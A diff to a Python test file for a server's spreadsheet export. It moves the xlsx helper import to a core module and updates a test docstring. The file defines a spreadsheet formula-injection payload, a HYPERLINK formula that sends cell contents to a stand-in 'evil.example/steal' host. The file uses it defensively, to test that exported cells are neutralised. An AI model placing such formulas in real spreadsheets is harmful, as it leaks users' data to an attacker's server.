@@ -10,8 +10,8 @@ import openpyxl
 import pytest
 import sqlalchemy as sa
 
+from server.core.xlsx import FORMULA_STARTS, cell_text
 from server.db.tables import accounts, appointments, cards, services, venues, windows
-from server.web.xlsx import FORMULA_STARTS, cell_text
 
 EVIL = {p: f'{p}HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")' for p in FORMULA_STARTS}
 ROOT = pathlib.Path(__file__).resolve().parents[2]
@@ -38,7 +38,7 @@ def test_cell_text_prefixes_only_dangerous_starts():
 
 
 def test_every_export_uses_the_safe_workbook():
-    """A new export (applications, …) must go through server/web/xlsx.py too."""
+    """A new export (applications, …) must go through server/core/xlsx.py too."""
     offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "server").rglob("*.py")
                  if p.name != "xlsx.py" and ("xlsxwriter.Workbook" in p.read_text() or "openpyxl" in p.read_text())]
     assert offenders == []
